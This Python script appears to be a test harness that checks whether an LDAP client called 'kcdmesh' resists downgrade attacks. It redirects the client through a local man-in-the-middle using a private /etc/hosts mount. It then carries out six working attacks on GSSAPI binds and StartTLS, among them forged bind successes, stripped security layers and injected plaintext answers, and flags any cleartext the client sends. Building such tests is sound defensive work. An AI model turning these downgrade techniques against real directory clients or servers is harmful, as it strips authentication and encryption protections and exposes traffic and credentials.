"""Stands between kcdmesh and the domain controller, and wants less protection than both could have.

    downgrade.py ATTACK PROGRAM ARGUMENT…

Runs the program where the controller's name leads here, with --server added, and ends with its exit status. What the program says in the
clear after the attack, other than goodbye or TLS, is printed to standard error as LEAK, and its first words; that the attack took place, as
ATTACKED. The attacks:

    empty-success     the bind is said to have succeeded, without a token and without asking the controller
    early-success     the controller's first answer is said to be the last one
    no-layer          the controller's offer of security layers is replaced by one that offers none
    plain-answer      after the bind, the search is answered in the clear
    starttls-plain    StartTLS is said to have succeeded, and what follows is in the clear
    starttls-inject   an answer in the clear is sent with that of StartTLS, and TLS goes on with the controller
"""

import os
import socket
import subprocess
import sys
import tempfile
import threading

CONTROLLER = ("10.77.0.2", 389)
attack, command = sys.argv[1], sys.argv[2:]
attacked = threading.Event()


def tlv(tag, *parts):
    content = b"".join(parts)
    length = len(content)
    return bytes([tag]) + (bytes([length]) if length < 128 else b"\x82" + length.to_bytes(2, "big")) + content


def receive(connection):
    """One message: its bytes, its number, and its operation's tag."""
    head = exactly(connection, 2)
    count = head[1]
    if count >= 0x80:
        more = exactly(connection, count & 0x7F)
        head, count = head + more, int.from_bytes(more, "big")
    content = exactly(connection, count)
    number = content[2 : 2 + content[1]]
    return head + content, number, content[2 + content[1]]


def exactly(connection, count):
    data = b""
    while len(data) < count:
        part = connection.recv(count - len(data))
        if not part:
            raise ConnectionError
        data += part
    return data


def answer(number, tag, *further):
    return tlv(0x30, tlv(0x02, number), tlv(tag, tlv(0x0A, b"\0"), tlv(0x04), tlv(0x04), *further))


def listen_for_leaks(client):
    """What comes now may be TLS, a sealed packet (four bytes of length, then a token of GSS-API), or goodbye; nothing else."""
    attacked.set()
    print("ATTACKED", file=sys.stderr, flush=True)
    data = b""
    client.settimeout(10)
    try:
        while part := client.recv(65536):
            data += part
    except OSError:
        pass
    while data:
        if data[0] in (0x15, 0x16, 0x17) and data[1:2] == b"\x03":
            data = data[5 + int.from_bytes(data[3:5], "big") :]
        elif data[4:6] == b"\x05\x04":
            data = data[4 + int.from_bytes(data[:4], "big") :]
        elif data[:1] == b"\x30" and data[5:6] == b"\x42":
            return
        else:
            print("LEAK", data[:80], file=sys.stderr, flush=True)
            return


def sealed_bind(client, server):
    """The conversation of GSSAPI, spoilt; three rounds, of which the second brings the offer of layers."""
    for turn in range(3):
        request, number, tag = receive(client)
        if attack == "empty-success":
            client.sendall(answer(number, 0x61))
            return
        server.sendall(request)
        reply, _, _ = receive(server)
        if attack == "early-success" and turn == 0:
            code = reply.index(b"\x0a\x01\x0e")
            client.sendall(reply[: code + 2] + b"\0" + reply[code + 3 :])
            return
        if attack == "no-layer" and turn == 1:
            offer = tlv(0x30, tlv(0x02, number), tlv(0x61, tlv(0x0A, b"\x0e"), tlv(0x04), tlv(0x04), tlv(0x87, b"\x01\0\0\0")))
            client.sendall(offer)
            return
        client.sendall(reply)
    # The search, sealed; whatever its number is, one of these is it.
    client.recv(65536)
    client.sendall(b"".join(answer(bytes([number]), 0x65) for number in range(1, 10)))


def tls(client, server):
    _, number, _ = receive(client)
    if attack == "starttls-plain":
        client.sendall(answer(number, 0x78))
        client.recv(1, socket.MSG_PEEK)
        client.sendall(b"".join(answer(bytes([number]), 0x61) for number in range(2, 5)))
        return
    server.sendall(tlv(0x30, tlv(0x02, number), tlv(0x77, tlv(0x80, b"1.3.6.1.4.1.1466.20037"))))
    receive(server)
    client.sendall(answer(number, 0x78) + b"".join(answer(bytes([number]), 0x61) for number in range(2, 5)))
    threading.Thread(target=pump, args=(server, client), daemon=True).start()


def pump(source, sink):
    try:
        while data := source.recv(65536):
            sink.sendall(data)
    except OSError:
        pass


def serve(listener):
    while True:
        client, _ = listener.accept()
        server = socket.create_connection(CONTROLLER)
        try:
            (tls if attack.startswith("starttls") else sealed_bind)(client, server)
        except ConnectionError:
            continue
        listen_for_leaks(client)


def main():
    listener = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=serve, args=(listener,), daemon=True).start()
    with tempfile.NamedTemporaryFile("w", suffix=".hosts") as hosts:
        hosts.write("127.0.0.1 dc.lab.test localhost\n")
        hosts.flush()
        script = 'mount --bind "$0" /etc/hosts && exec "$@"'
        place = ["unshare", "--mount", "--propagation", "private", "sh", "-c", script, hosts.name]
        server = ["--server", f"ldap://dc.lab.test:{listener.getsockname()[1]}"]
        status = subprocess.run(place + command + server, check=False).returncode
    if not attacked.wait(5):
        print("the attack did not take place", file=sys.stderr, flush=True)
    os._exit(status if status >= 0 else 128 - status)


main()
